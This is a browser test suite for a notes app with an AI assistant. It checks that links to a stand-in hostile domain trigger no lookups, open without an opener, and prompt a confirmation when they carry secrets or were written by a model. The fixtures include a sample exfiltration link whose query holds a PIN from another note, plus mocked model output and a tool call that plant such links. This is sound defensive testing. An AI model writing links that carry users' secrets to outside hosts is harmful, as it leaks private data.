import type { Locator, Page } from 'playwright';
import { expect, it, onTestFinished } from 'vitest';
import { send, useEndpoint } from './harness/assistant.ts';
import { EVIL } from './harness/chromium.ts';
import { IS_LONG_RUN } from './harness/long-run.ts';
import { createNetLog } from './harness/net-log.ts';
import { startLatent } from './harness.ts';
import { openNote, openProperties, readNote, showMode } from './harness/notes.ts';

const LINKS = `# Links

[a link](https://note-link.${EVIL}/) and <https://note-auto.${EVIL}/> and https://note-bare.${EVIL}/x and <a href="//note-html.${EVIL}/">HTML</a>

![an image](https://note-image.${EVIL}/a.png) [mail](mailto:a@note-mail.${EVIL})
`;
const PROPERTIES = `---\nsource: https://note-property.${EVIL}/\n---\n`;
const CANVAS = JSON.stringify({
  nodes: [
    { id: 'a', type: 'link', url: `https://canvas-url.${EVIL}/`, x: 0, y: 0, width: 9, height: 9 },
    { id: 'b', type: 'text', text: `[t](https://canvas-text.${EVIL}/)`, x: 0, y: 99, width: 9, height: 9 },
  ],
  edges: [],
});

/** Does everything to links except follow them: shows, hovers, focuses, presses with each button and releases elsewhere, drags. */
async function interact(page: Page, links: Locator): Promise<number> {
  const count = await links.count();
  for (let at = 0; at < count; at++) {
    const link = links.nth(at);
    await link.hover();
    // There is no event for a look-up that does not happen; the browser starts one within this time, as the control link shows.
    await page.waitForTimeout(120);
    await link.focus();
    for (const button of ['left', 'middle'] as const) {
      await link.hover();
      await page.mouse.down({ button });
      await page.waitForTimeout(60);
      await page.mouse.move(2, 2, { steps: 3 });
      await page.mouse.up({ button });
    }
    await link.click({ button: 'right' });
    await page.getByRole('menuitem', { name: 'Copy link' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('menuitem', { name: 'Copy link' }).waitFor({ state: 'hidden' });
  }
  return count;
}

/** Where links stand, each with the last of them: `npm test` tries the first. */
const PLACES = [
  ['Links.md', 'mail'],
  ['Board.canvas', 't'],
  ['Embeds.md', 'mail'],
] as const;

it('makes no DNS lookup of and no connection to a site whose link is shown, hovered, focused or pressed', async () => {
  const log = await createNetLog();
  onTestFinished(() => log.remove());
  const latent = await startLatent({
    vault: { 'Links.md': PROPERTIES + LINKS, 'Board.canvas': CANVAS, 'Embeds.md': '# Embeds\n\n![[Links]]\n' },
    netLog: log.file,
  });
  await latent.openVault();
  const { page } = latent;
  const touched: Record<string, number> = {};
  for (const [path, last] of PLACES.filter((_, at) => IS_LONG_RUN || at === 0)) {
    await openNote(page, path);
    if (path.endsWith('.md')) await showMode(page, 'Read');
    if (path === 'Links.md') await openProperties(page);
    // The fields of the properties stand above the page; a canvas is drawn.
    const text = page.locator('.note__above, .note__page, .canvas--drawn');
    await text.getByText(last, { exact: true }).waitFor();
    touched[path] = await interact(page, text.locator('[data-address]'));
  }
  if (IS_LONG_RUN) {
    await useEndpoint(latent, [{ text: LINKS.replaceAll('note-', 'answer-') }]);
    await page.goto(`${latent.url}#/note/Links.md`);
    await send(page, 'Which links?');
    const answer = page.locator('.answer');
    await answer.getByText('mail', { exact: true }).waitFor();
    touched['answer'] = await interact(page, answer.locator('[data-address]'));
  }
  expect(touched).toEqual({ 'Links.md': 7, ...(IS_LONG_RUN && { 'Board.canvas': 2, 'Embeds.md': 6, answer: 6 }) });

  // A control: an ordinary link, to prove that the log shows its look-up.
  await page.evaluate((evil) => {
    const control = Object.assign(document.createElement('a'), {
      id: 'control',
      href: `https://control.${evil}/`,
      textContent: 'control',
    });
    Object.assign(control.style, { position: 'fixed', inset: '0 auto auto 0', zIndex: '99' });
    document.body.prepend(control);
  }, EVIL);
  await page.locator('#control').hover();
  await page.mouse.down();
  // Only the browser's network log shows the look-up, and it is complete only when the browser is closed.
  await page.waitForTimeout(300);
  await page.mouse.move(2, 400, { steps: 3 });
  await page.mouse.up();
  await latent.context.close();
  expect(await log.hosts()).toEqual(['control']);
});

const SECRETS = '# Secrets\n\nThe PIN is 4711.\n';
const OWN = `# Own\n\n[plain](https://plain.${EVIL}/page) [carrier](https://carrier.${EVIL}/?q=PIN+4711)\n`;

it('opens a plain link of a note at once in a new tab without an opener, and asks about one that holds text of another note or that a model wrote', async () => {
  const latent = await startLatent({ vault: { 'Own.md': OWN, 'Secrets.md': SECRETS } });
  await latent.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  latent.watch.allowOrigin(`https://plain.${EVIL}`);
  latent.watch.allowOrigin(`https://carrier.${EVIL}`);
  await latent.openVault();
  const { page } = latent;
  const dialog = page.getByRole('dialog', { name: /^Open / });
  await latent.context.route(`https://*.${EVIL}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>There</title>' }),
  );
  const opened = (act: () => Promise<void>) =>
    Promise.all([latent.context.waitForEvent('page'), act()]).then(([tab]) => tab);
  await readNote(page, 'Own.md');
  const link = page.locator('.note__page').getByRole('link', { name: /^plain/ });
  await link.waitFor();

  // Every way to follow a link opens a page without an opener and referrer.
  for (const follow of [
    () => link.click(),
    () => link.click({ button: 'middle' }),
    () => link.click({ modifiers: ['Control'] }),
    () => link.press('Enter'),
  ]) {
    const tab = await opened(follow);
    expect(await openerOf(tab)).toEqual({ opener: null, referrer: '', title: 'There' });
    await tab.close();
  }
  expect(latent.watch.requests.filter((url) => url === `https://plain.${EVIL}/page`)).toHaveLength(4);
  await link.click({ button: 'right' });
  await page.getByRole('menuitem', { name: 'Copy link' }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(`https://plain.${EVIL}/page`);
  await expect.poll(() => link.evaluate((element) => element === document.activeElement)).toBe(true);

  const before = latent.watch.requests.length;
  const carrier = page.locator('.note__page').getByRole('link', { name: /^carrier/ });
  await carrier.click();
  await dialog.getByText(`https://carrier.${EVIL}/?q=PIN+4711`).waitFor();
  await dialog
    .getByText('“PIN is 4711” is in Secrets.md', { exact: false })
    .or(dialog.getByText('“4711” is in Secrets.md', { exact: false }))
    .waitFor();
  // Keys meant for the link do not answer the dialog.
  await page.keyboard.press('Enter');
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });
  expect(await carrier.evaluate((element) => element === document.activeElement)).toBe(true);
  expect(latent.watch.requests.slice(before).filter((url) => url.includes(EVIL))).toEqual([]);

  await useEndpoint(latent, [{ text: `[answered](https://plain.${EVIL}/page)` }]);
  await page.goto(`${latent.url}#/note/Own.md`);
  await send(page, 'Where to?');
  const answered = page.locator('.answer').getByRole('link', { name: /^answered/ });
  await answered.click({ button: 'middle' });
  await dialog.getByText('A model wrote its address', { exact: false }).waitFor();
  expect(await openerOf(await opened(() => dialog.getByRole('button', { name: 'Open', exact: true }).click()))).toEqual(
    { opener: null, referrer: '', title: 'There' },
  );
  await dialog.waitFor({ state: 'hidden' });
});

/** What the opened page can read of the page that opened it. */
async function openerOf(tab: Page): Promise<unknown> {
  await tab.waitForLoadState();
  return tab.evaluate(() => ({ opener: window.opener as unknown, referrer: document.referrer, title: document.title }));
}

it('asks about an address that the assistant wrote into a note', async () => {
  const latent = await startLatent({ vault: { 'Own.md': OWN } });
  await latent.openVault();
  const { page } = latent;
  await useEndpoint(latent, [
    {
      toolCalls: [
        {
          name: 'write_note',
          arguments: { path: 'Own.md', content: `${OWN}\n[brought](https://brought.evil&#46;example/)\n` },
        },
      ],
    },
    { text: 'It is written.' },
  ]);
  await page.goto(`${latent.url}#/note/Own.md`);
  await showMode(page, 'Read');
  await send(page, 'Write it');
  await page.getByRole('button', { name: 'Approve', exact: true }).first().click();
  await page.getByText('It is written.').waitFor();
  await page
    .locator('.note__page')
    .getByRole('link', { name: /^brought/ })
    .click();
  const dialog = page.getByRole('dialog', { name: `Open brought.${EVIL}?` });
  await dialog.getByText('wrote this address into your notes', { exact: false }).waitFor();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
});
